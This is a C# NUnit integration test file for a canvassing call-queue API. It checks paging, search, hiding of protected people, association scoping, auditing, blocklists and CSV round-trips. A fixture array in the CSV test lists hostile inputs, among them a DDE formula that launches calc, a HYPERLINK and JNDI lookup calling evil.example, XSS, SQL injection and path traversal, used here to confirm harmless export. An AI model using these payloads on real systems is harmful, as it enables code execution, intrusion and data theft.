using System.Text;
using System.Text.Json;
using Canvass.CallQueue.Access;
using Canvass.CallQueue.Import;
using Canvass.CallQueue.Register;
using Canvass.Databases;
using Canvass.Shared;
using NUnit.Framework;

namespace Canvass.Integration.Http;

/// <summary>
/// C, D1. Controls: an administrator sees what an organiser does not; the same person unblocked is rung. Tried: without the associations in the
/// statements an organiser reads another association's facts and calls; without the word about protected people they find one.
/// </summary>
[TestFixtureSource(typeof(Database), nameof(Database.All))]
[Category("C")]
[Category("D1")]
public sealed class People_over_HTTP(Database database) : OverHttp(database)
{
    private Caller organiser = null!;
    private long otherAssociation;
    private int names;

    [OneTimeSetUp]
    public async Task ComeAsync()
    {
        organiser = await app.UserAsync(roles: new RoleGrant(Role.Organiser, app.Association));
        otherAssociation = (await app.Desk<AssociationDesk>().CreateAsync(app.Organisation, "Botkyrka", "0127")).Value.Id;
    }

    [OneTimeTearDown]
    public void Leave() => organiser?.Dispose();

    [Test]
    public async Task those_on_a_list_come_page_by_page()
    {
        var list = await ListAsync(string.Concat(Enumerable.Range(0, 5).Select(i => $"P{i}-{Database};Namn{i} Ek;{NewNumber()};\r\n")));

        var (ids, next) = (new List<long>(), (long?)0);
        while (next is { } after)
        {
            var page = (await organiser.GetAsync($"/api/lists/{list}/people?limit=2&after={after}")).Body;
            ids.AddRange(page.GetProperty("people").EnumerateArray().Select(Id));
            next = page.TryGetProperty("next", out var cursor) ? cursor.GetInt64() : null;
        }

        Assert.That(ids, Is.Ordered.And.Unique.And.Count.EqualTo(5));
    }

    [TestCase("åsa", 1)]
    [TestCase("Öberg, Åsa", 1)]
    [TestCase("M%", 0)]
    [TestCase("_", 0)]
    [TestCase("berg", 2)]
    [TestCase("S-4711", 1)]
    [TestCase("070 1740605", 1)]
    [TestCase("+46 70-174 06 05", 1)]
    [TestCase("nobody of this name", 0)]
    [TestCase("%00", 0)]
    public async Task somebody_is_found_by_name_number_or_membership_number(string sought, int found)
    {
        var list = await ListAsync($"S-4711;Åsa Öberg;070-174 06 05;\r\nS-4712;Bo Sandberg;{NewNumber()};\r\nS-4713;Eva Ek;{NewNumber()};\r\n");

        var reply = await organiser.GetAsync($"/api/lists/{list}/people?sought={(sought == "%00" ? sought : Uri.EscapeDataString(sought))}");

        Assert.That(reply.Body.GetProperty("people").GetArrayLength(), Is.EqualTo(found), reply.Text);
    }

    /// <summary>Control: the administrator sees them.</summary>
    [Test]
    public async Task who_is_protected_is_not_there_for_an_organiser()
    {
        var list = await ListAsync($"H{Database};Hemlig Person;{NewNumber()};skyddade personuppgifter\r\n");

        var (seen, hidden) = (await admin.GetAsync($"/api/lists/{list}/people"), await organiser.GetAsync($"/api/lists/{list}/people?sought=hemlig"));
        var id = Id(seen.Body.GetProperty("people")[0]);

        Assert.That(seen.Body.GetProperty("people")[0].GetProperty("protected").GetBoolean(), Is.True);
        Assert.That(hidden.Body.GetProperty("people").GetArrayLength(), Is.Zero);
        Assert.That(((await admin.GetAsync($"/api/people/{id}")).Status, (await organiser.GetAsync($"/api/people/{id}")).Problem), Is.EqualTo((200, "unknown-person")));
        Assert.That((await admin.GetAsync($"/api/lists/{list}/people.csv")).Text, Does.Not.Contain("Hemlig"));
    }

    /// <summary>Control: the administrator sees both associations'.</summary>
    [Test]
    public async Task an_organiser_sees_what_their_own_association_knows_and_has_rung_and_not_who_rang()
    {
        var (external, number) = ($"K{Database}", NewNumber());
        var ours = await ListAsync($"{external};Karin Ek;{number};kassör\r\n");
        var theirs = await ListAsync($"{external};Karin Ek;{number};ordförande\r\n", otherAssociation);
        using var theirVolunteer = await app.SitDownAsync("Tilda", theirs);
        await theirVolunteer.ReportAsync(await theirVolunteer.ClaimAsync(theirs), new { id = NewId.At(TimeProvider.System.GetUtcNow()), outcome = "conversation", note = "told them something" });
        var id = Id((await organiser.GetAsync($"/api/lists/{ours}/people")).Body.GetProperty("people")[0]);

        var (all, own) = (await admin.GetAsync($"/api/people/{id}"), await organiser.GetAsync($"/api/people/{id}"));

        Assert.Multiple(() =>
        {
            Assert.That(all.Text, Does.Contain("kassör").And.Contain("ordf").And.Contain("told them something").And.Not.Contain("Tilda").And.Not.Contain("volunteer"));
            Assert.That(all.Body.GetProperty("lists").GetArrayLength(), Is.EqualTo(2));
            Assert.That(all.Body.GetProperty("calls")[0].GetProperty("outcome").GetString(), Is.EqualTo("conversation"));
            Assert.That(own.Body.GetProperty("facts").EnumerateArray().Single().GetProperty("facts").GetProperty("Text").GetString(), Is.EqualTo("kassör"));
            Assert.That(own.Body.GetProperty("lists").EnumerateArray().Single().GetProperty("listId").GetInt64(), Is.EqualTo(ours));
            Assert.That(own.Body.GetProperty("calls").GetArrayLength(), Is.Zero);
            Assert.That(own.Body.GetProperty("numbers").EnumerateArray().Single().GetProperty("tel").GetString(), Is.EqualTo(number.Replace(" ", "", StringComparison.Ordinal)));
        });
    }

    [Test]
    public async Task every_look_is_audited()
    {
        var list = await ListAsync($"A{Database};Anna Ek;{NewNumber()};\r\n");
        var id = Id((await organiser.GetAsync($"/api/lists/{list}/people")).Body.GetProperty("people")[0]);
        await organiser.GetAsync($"/api/people/{id}");
        await organiser.GetAsync($"/api/lists/{list}/people.csv");

        var actions = await app.Services.GetDatabase().ReadAsync(work => work.QueryAsync<string>(
            "select action || ' ' || coalesce(details, '') from audit where (subject = 'list:' || @list or subject = 'person:' || @id) and actor like 'account:%' order by id", new { list = $"{list}", id = $"{id}" }));

        Assert.That(actions, Is.EqualTo(new[] { $"people_list {id}", "person_view ", "export 1" }));
    }

    /// <summary>Control: people of other names are no pair.</summary>
    [Test]
    public async Task who_is_perhaps_the_same_is_merged_or_told_apart()
    {
        var before = await PairsAsync();
        await ListAsync($";Perhaps{Database} Same;{NewNumber()};\r\n;Perhaps{Database} Same;{NewNumber()};\r\n;Perhaps{Database} Two;{NewNumber()};\r\n;Perhaps{Database} Two;{NewNumber()};\r\n;Another{Database} One;{NewNumber()};\r\n");
        var pairs = (await PairsAsync()).Except(before).ToList();
        Assert.That(pairs, Has.Count.EqualTo(2));

        var merged = await admin.PostAsync($"/api/people/{pairs[0].One}/merges", new { personId = pairs[0].Other });
        var apart = await admin.PostAsync($"/api/people/{pairs[1].One}/differences", new { personId = pairs[1].Other });
        var itself = await admin.PostAsync($"/api/people/{pairs[1].One}/merges", new { personId = pairs[1].One });

        Assert.That((merged.Status, apart.Status, itself.Problem), Is.EqualTo((204, 200, "same-person")));
        Assert.That(await PairsAsync(), Is.EquivalentTo(before));
        Assert.That((await admin.GetAsync($"/api/people/{pairs[0].Other}")).Problem, Is.EqualTo("unknown-person"));
        Assert.That((await admin.GetAsync($"/api/people/{pairs[0].One}")).Body.GetProperty("numbers").GetArrayLength(), Is.EqualTo(2));
    }

    /// <summary>Control: before the block and after it is lifted they wait to be rung.</summary>
    [TestCase("number")]
    [TestCase("externalId")]
    [TestCase("personId")]
    public async Task what_is_blocked_is_not_rung_and_what_it_is_of_is_not_told(string kind)
    {
        var (external, number) = ($"B{kind}{Database}", NewNumber());
        var list = await ListAsync($"{external};Berit Ek;{number};\r\n");
        var person = Id((await admin.GetAsync($"/api/lists/{list}/people")).Body.GetProperty("people")[0]);
        var before = await StandingAsync(list);

        object body = kind switch { "number" => new { number = number.Replace("+999 ", "00999", StringComparison.Ordinal), reason = "asked by letter" }, "externalId" => new { externalId = external }, _ => new { personId = person } };
        var blocked = await admin.PostAsync("/api/blocklist", body);
        var (during, listed, known) = (await StandingAsync(list), await admin.GetAsync("/api/blocklist?limit=200"), await admin.GetAsync($"/api/people/{person}"));
        var ids = blocked.Body.GetProperty("ids").EnumerateArray().Select(i => i.GetInt64()).ToList();
        var lifted = new List<int>();
        foreach (var id in ids) lifted.Add((await admin.DeleteAsync($"/api/blocklist/{id}")).Status);

        Assert.Multiple(async () =>
        {
            Assert.That((blocked.Status, ids.Count), Is.EqualTo((201, kind == "personId" ? 3 : 1)));
            Assert.That((before, during, await StandingAsync(list)), Is.EqualTo(("never_rung", "blocked", "never_rung")));
            Assert.That(listed.Text, Does.Not.Contain(external).And.Not.Contain(number[5..]));
            Assert.That(known.Body.GetProperty("blocks").EnumerateArray().Select(Id), Is.EquivalentTo(ids));
            Assert.That(lifted, Is.All.EqualTo(204));
            Assert.That((await admin.DeleteAsync($"/api/blocklist/{ids[0]}")).Problem, Is.EqualTo("unknown-block"));
        });
    }

    [TestCase("""{}""", "unclear-block")]
    [TestCase("""{"number":"070-174 06 05","personId":1}""", "unclear-block")]
    [TestCase("""{"number":"no number"}""", "not-a-number")]
    [TestCase("""{"externalId":" "}""", "no-external-id")]
    [TestCase("""{"externalId":"a\u0000b"}""", "no-external-id")]
    [TestCase("""{"personId":987654321}""", "unknown-person")]
    public async Task a_block_of_nothing_is_refused(string body, string problem) =>
        Assert.That((await admin.PostAsync("/api/blocklist", JsonDocument.Parse(body).RootElement)).Problem, Is.EqualTo(problem));

    /// <summary>Control: the promise is broken by a call alone, so that lifting by hand is refused.</summary>
    [Test]
    public async Task a_block_that_a_call_made_is_lifted_by_correcting_the_call()
    {
        var list = await ListAsync($"C{Database};Cilla Ek;{NewNumber()};\r\n");
        using var volunteer = await app.SitDownAsync("Vera", list);
        await volunteer.ReportAsync(await volunteer.ClaimAsync(list), new { id = NewId.At(TimeProvider.System.GetUtcNow()), outcome = "do_not_call" });

        var block = (await admin.GetAsync("/api/blocklist")).Body.GetProperty("blocks").EnumerateArray().First(b => b.GetProperty("byCall").GetBoolean());

        Assert.That((await admin.DeleteAsync($"/api/blocklist/{Id(block)}")).Problem, Is.EqualTo("blocked-by-call"));
    }

    [Test]
    public async Task blocks_come_page_by_page_the_newest_first()
    {
        for (var i = 0; i < 3; i++) await admin.PostAsync("/api/blocklist", new { number = NewNumber() });

        var first = (await admin.GetAsync("/api/blocklist?limit=2")).Body;
        var second = (await admin.GetAsync($"/api/blocklist?limit=1&after={first.GetProperty("next").GetInt64()}")).Body;

        Assert.That(first.GetProperty("blocks").EnumerateArray().Concat(second.GetProperty("blocks").EnumerateArray()).Select(Id).ToList(), Is.Ordered.Descending.And.Count.EqualTo(3));
    }

    /// <summary>Control: the comparison of the two files with a third that has one person more.</summary>
    [Test]
    public async Task every_text_of_a_file_comes_back_as_it_was_and_harmless()
    {
        await using var file = new MemoryStream();
        await using (var csv = new CsvWriter(file))
        {
            await csv.WriteAsync(["Medlemsnummer", "Namn", "Telefon", "Text"]);
            for (var i = 0; i < Texts.Length; i++) await csv.WriteAsync([$"T{i}-{Database}", "Tage Ek", NewNumber(), Texts[i]]);
        }
        var list = await app.ListAsync($"Texts {Database}");
        await BringAsync(list, file.ToArray());

        var exported = await admin.GetAsync($"/api/lists/{list}/people.csv");
        for (var i = 0; i < Texts.Length; i++)
        {
            var found = (await admin.GetAsync($"/api/lists/{list}/people?sought=T{i}-{Database}")).Body.GetProperty("people")[0];
            var person = (await admin.GetAsync($"/api/people/{Id(found)}")).Body;
            Assert.That(person.GetProperty("facts")[0].GetProperty("facts").GetProperty("Text").GetString(), Is.EqualTo(Texts[i].Normalize()), "composed, and else as it was");
        }
        await BringAsync(list, Encoding.UTF8.GetBytes(exported.Text));
        var again = await admin.GetAsync($"/api/lists/{list}/people.csv");
        await BringAsync(list, Encoding.UTF8.GetBytes($"Namn;Telefon\r\nTuva Ek;{NewNumber()}\r\n"));

        Assert.Multiple(async () =>
        {
            Assert.That((exported.Status, exported.MediaType), Is.EqualTo((200, "text/csv")));
            Assert.That(again.Text, Is.EqualTo(exported.Text));
            Assert.That(exported.Text, Does.Not.Match("(^|[;\n])\"?[=+@\t-]"), "No cell is a formula.");
            Assert.That((await admin.GetAsync($"/api/lists/{list}/people.csv")).Text, Is.Not.EqualTo(exported.Text));
        });
    }

    private static readonly string[] Texts =
    [
        "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"here\")", "+46", "-2+3", "@SUM(A1:A9)", "'quoted", "''twice", "'=already", "\"\"", "\"half", "a;b", "a,b", "a\tb", "one\r\ntwo", "one\ntwo",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", "\" onmouseover=\"alert(1)", "{{7*7}}", "${jndi:ldap://evil.example}", "%3Cscript%3E", "&lt;b&gt;", "</textarea>", "<!--", "]]>",
        "' or '1'='1", "'); drop table person; --", "\\", "\\u0000", "%s%n", "../../etc/passwd", "NULL", "null", "undefined", "NaN", "true", "0x41", "1e308",
        "åäö ÅÄÖ", "ñ ü ß", "العربية", "עברית", "日本語", "русский", "👩‍👩‍👧", "🇸🇪", "e\u0301", "\u202Egnp.exe", "a\u200Bb", "x\u00A0y", "A\uFFFDB", "ﷺ", "İıſ", "Ǆ", "ﬁ", "½", "٠١٢", "𝔘𝔫𝔦", "x\u0001y",
    ];

    /// <summary>People as "external id;name;number;text", a line each.</summary>
    private async Task<long> ListAsync(string people, long? association = null)
    {
        var list = await app.ListAsync($"List {Interlocked.Increment(ref names)}", association: association);
        await BringAsync(list, Encoding.UTF8.GetBytes($"Medlemsnummer;Namn;Telefon;Text\r\n{people}"));
        return list;
    }

    private async Task BringAsync(long list, byte[] file)
    {
        var desk = app.Desk<ImportDesk>();
        var staged = (await desk.StageAsync(new ImportFile
        {
            OrganisationId = app.Organisation, ListId = list, FileName = "people.csv", Content = new MemoryStream(file), Source = "The register", ObtainedAt = new DateOnly(2026, 1, 2), Actor = "test", Again = true,
        })).Value;
        _ = (await desk.CommitAsync(app.Organisation, staged.Id, wholeList: false, "test")).Value;
    }

    private async Task<string?> StandingAsync(long list) => (await admin.GetAsync($"/api/lists/{list}/people")).Body.GetProperty("people")[0].GetProperty("standing").GetString();

    private async Task<List<(long One, long Other)>> PairsAsync()
    {
        var (pairs, after) = (new List<(long, long)>(), "");
        while (after is not null)
        {
            var page = (await admin.GetAsync($"/api/people/perhaps-the-same?limit=1&after={after}")).Body;
            pairs.AddRange(page.GetProperty("pairs").EnumerateArray().Select(p => (Id(p.GetProperty("one")), Id(p.GetProperty("other")))));
            after = page.TryGetProperty("next", out var next) ? next.GetString() : null;
        }
        return pairs;
    }

    private string NewNumber() => $"+999 8{Interlocked.Increment(ref names):0000000}";

    private static long Id(JsonElement thing) => thing.GetProperty("id").GetInt64();
}
